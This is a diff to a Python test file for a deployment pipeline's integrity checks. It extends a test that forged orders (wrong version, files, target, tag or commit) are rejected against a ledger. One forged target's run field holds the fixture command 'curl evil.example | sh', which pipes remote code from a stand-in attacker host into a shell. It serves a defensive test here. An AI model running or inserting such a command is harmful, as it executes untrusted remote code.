@@ -1,6 +1,7 @@
 from __future__ import annotations
 
 import hashlib
+from functools import partial
 
 import msgspec
 import pytest
@@ -161,10 +162,11 @@ def test_one_entry_for_each_receipt() -> None:
 
 
 def test_an_order_is_held_against_the_ledger() -> None:
-    """An order that another job handed on is that of ledger and ciml.yaml, or it is not carried out."""
+    """An order that another job handed on is that of event, ledger and ciml.yaml, or it is not carried out."""
     state = ledger(deployment(1))
     good, targets = order(state=state), {"production": TARGET}
-    assert order_fault(good, state, targets) is None
+    fault_of = partial(order_fault, state=state, targets=targets, tag=good.ref, head=good.commit)
+    assert fault_of(good) is None
 
     elsewhere = msgspec.structs.replace(TARGET, run="curl evil.example | sh")
     forged = {
@@ -172,12 +174,17 @@ def test_an_order_is_held_against_the_ledger() -> None:
         "its version": order(3, state=state),
         "its files": msgspec.structs.replace(good, artifact=artifact(1)),
         "its target": msgspec.structs.replace(good, target=elsewhere),
+        "its tag": order(state=state, ref="v9"),
+        "its commit": msgspec.structs.replace(good, commit=CommitSha("e" * 40)),
     }
     for what, bad in forged.items():
-        fault = order_fault(bad, state, targets)
+        fault = fault_of(bad)
         assert isinstance(fault, IntegrityError) and what in fault.message
-    assert order_fault(good, state, {})
-    assert isinstance(order_fault(good, ledger(), targets), RaceError)
+    followed = msgspec.structs.replace(order(state=state, ref=""), commit=registration(2).commit)
+    assert fault_of(followed, tag=None) is None
+    assert fault_of(followed) and fault_of(msgspec.structs.replace(followed, commit=good.commit), tag=None)
+    assert fault_of(good, targets={})
+    assert isinstance(fault_of(good, state=ledger()), RaceError)
     assert good.outputs == (artifact(2), artifact(1)) and order().outputs == (artifact(2),)
 
 
